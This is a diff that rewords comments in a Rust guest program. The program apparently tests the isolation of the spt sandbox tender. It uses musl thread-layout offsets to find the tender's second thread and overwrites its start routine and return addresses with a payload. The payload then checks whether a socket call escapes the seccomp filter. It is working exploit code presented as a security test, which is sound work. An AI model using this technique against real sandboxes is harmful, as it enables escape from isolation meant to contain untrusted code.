@@ -1,5 +1,5 @@
 //! A guest of spt that overwrites the start routine and the return addresses of the tender's second thread, found by the layout
-//! of musl's threads, and sees whether its own code then runs there outside of a filter.
+//! of musl's threads, and checks whether its own code then runs there outside of a seccomp filter.
 
 #![no_std]
 #![no_main]
@@ -11,16 +11,16 @@ use husk::{boot, clock};
 
 husk::entry!(main);
 
-/// How long the other thread may take to run what was put in its place, in nanoseconds.
+/// Time that the other thread may take to run the new routine, in nanoseconds.
 const PATIENCE_NS: u64 = 400_000_000;
-/// Bytes of text that the tender may have at either side of its gate.
+/// Bytes of text that the tender may have on either side of its gate.
 const TEXT: u64 = 64 << 20;
 const NOT_YET: i64 = i64::MIN;
 
-/// What the kernel has answered to a call that no filter lets through.
+/// Answer of the kernel to a call that no filter lets through.
 static ANSWER: AtomicI64 = AtomicI64::new(NOT_YET);
 
-/// socket(AF_UNIX, SOCK_STREAM, 0), made by whichever thread comes here.
+/// Makes the call socket(AF_UNIX, SOCK_STREAM, 0) in any thread that gets here.
 extern "C" fn payload(_: u64) -> u64 {
     const SYS_SOCKET: i64 = 41;
     let answer: i64;
@@ -34,14 +34,14 @@ extern "C" fn payload(_: u64) -> u64 {
     }
 }
 
-/// The top of the stack of the thread beside the one with this FS base (struct pthread of musl).
+/// Returns the top of the stack of the thread next to the one with this FS base (struct pthread of musl).
 fn stack(fs: u64) -> u64 {
     const NEXT: u64 = 24;
     const STACK: u64 = 88;
     peek_word(peek_word(fs + NEXT) + STACK)
 }
 
-/// The start routine on this stack (struct start_args of musl): a function of the tender's, an argument, and a zero.
+/// Finds the start routine on this stack (struct start_args of musl): a function of the tender, an argument, and a zero.
 fn start_routine(stack: u64, gate: u64) -> Option<u64> {
     let is_start = |at: &u64| {
         let (routine, argument, control) = (peek_word(*at), peek_word(at + 8), peek_word(at + 16) as u32);
@@ -50,11 +50,11 @@ fn start_routine(stack: u64, gate: u64) -> Option<u64> {
     (0x20..0x400).step_by(8).map(|back| stack - back).find(is_start)
 }
 
-/// Overwrites what may be return addresses on this stack.
+/// Overwrites all words of this stack that may be return addresses.
 fn overwrite_returns(stack: u64, gate: u64) {
     const DEPTH: u64 = 64 << 10;
     for at in (stack - DEPTH..stack).step_by(8).filter(|at| peek_word(*at).abs_diff(gate) < TEXT) {
-        // SAFETY: none: it is the attack.
+        // SAFETY: none: the write is the attack.
         unsafe { (at as *mut u64).write_volatile(payload as *const () as u64) };
     }
 }
@@ -68,7 +68,7 @@ fn main() {
     let fs = peek_word((loads + 7).wrapping_add_signed((peek_word(loads + 3) as i32).into()));
     let stack = stack(fs);
     let found = start_routine(stack, gate).expect("there is a second thread");
-    // SAFETY: none: it is the attack.
+    // SAFETY: none: the write is the attack.
     unsafe { (found as *mut u64).write_volatile(payload as *const () as u64) };
     overwrite_returns(stack, gate);
     husk::println!("overwritten");
